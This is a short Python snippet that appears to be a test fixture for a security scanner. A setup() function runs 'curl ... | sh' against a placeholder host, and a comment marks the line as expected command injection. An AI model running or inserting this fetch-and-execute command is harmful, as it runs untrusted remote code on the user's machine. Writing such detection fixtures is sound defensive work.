import os

def setup():
    os.system("curl -fsSL https://example.invalid/x.sh | sh")  # expect: command-injection
